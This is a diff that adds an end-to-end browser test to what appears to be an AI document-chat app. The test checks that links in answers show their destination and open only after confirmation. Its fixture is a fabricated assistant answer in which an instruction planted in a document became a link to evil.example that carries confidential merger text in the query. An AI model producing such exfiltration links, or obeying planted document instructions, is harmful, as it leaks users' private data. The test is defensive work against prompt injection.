@@ -115,3 +115,76 @@ test("a question sent right after Stop keeps its own answer", async ({ page }) =
   expect(roles.filter((r) => r === "user")).toHaveLength(2);
   await expectNoConsoleErrors(errors);
 });
+
+test("a link in an answer shows where it leads and does not open on one click", async ({
+  page,
+  context,
+}) => {
+  const errors = watchConsole(page);
+  await page.goto("/login");
+  await signIn(page, person);
+  await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
+
+  // A stored answer in which a document's planted instruction became a link carrying text.
+  const target = "https://evil.example/collect?q=the%20merger%20closes%20on%20Friday";
+  const sessionId = await page.evaluate(async () => {
+    const csrf = document.cookie.match(/(?:^|;\s*)archivist_csrf=([^;]+)/)?.[1] ?? "";
+    const response = await fetch("/api/chat/sessions", {
+      method: "POST",
+      headers: { "content-type": "application/json", "X-CSRF-Token": decodeURIComponent(csrf) },
+      body: JSON.stringify({ title: "Planted link" }),
+    });
+    return ((await response.json()) as { id: string }).id;
+  });
+  await page.route(`**/api/chat/sessions/${sessionId}`, async (route) => {
+    const response = await route.fetch();
+    const session = (await response.json()) as { messages: unknown[] };
+    session.messages.push(
+      {
+        id: "00000000-0000-4000-8000-000000000001",
+        role: "user",
+        content: "What is in the board notes?",
+        citations: [],
+        created_at: new Date().toISOString(),
+      },
+      {
+        id: "00000000-0000-4000-8000-000000000002",
+        role: "assistant",
+        content: `The notes are summarized [here](${target}).`,
+        citations: [],
+        created_at: new Date().toISOString(),
+      },
+    );
+    await route.fulfill({ response, json: session });
+  });
+  let outside = 0;
+  await context.route("https://evil.example/**", async (route) => {
+    outside += 1;
+    await route.fulfill({ contentType: "text/html", body: "<p>collected</p>" });
+  });
+
+  await page.goto(`/chat?session=${sessionId}`);
+  const conversation = page.getByRole("log", { name: "Conversation" });
+  const link = conversation.getByRole("button", { name: /here/ });
+  await expect(link).toContainText("evil.example"); // the destination is visible
+  const before = page.url();
+  await link.click();
+
+  const dialog = page.getByRole("alertdialog");
+  await expect(dialog).toBeVisible();
+  await expect(dialog.getByLabel("Full address")).toHaveText(target);
+  expect(page.url()).toBe(before);
+  expect(context.pages()).toHaveLength(1);
+  await dialog.getByRole("button", { name: "Cancel" }).click();
+  await expect(dialog).toHaveCount(0);
+  expect(outside, "a request reached the outside site").toBe(0);
+
+  // Confirmed, it opens in a new tab that cannot reach back into this one.
+  await link.click();
+  const popup = context.waitForEvent("page");
+  await page.getByRole("alertdialog").getByRole("link", { name: "Open link" }).click();
+  await (await popup).waitForLoadState();
+  expect((await popup).url()).toBe(target);
+  expect(page.url()).toBe(before);
+  await expectNoConsoleErrors(errors);
+});
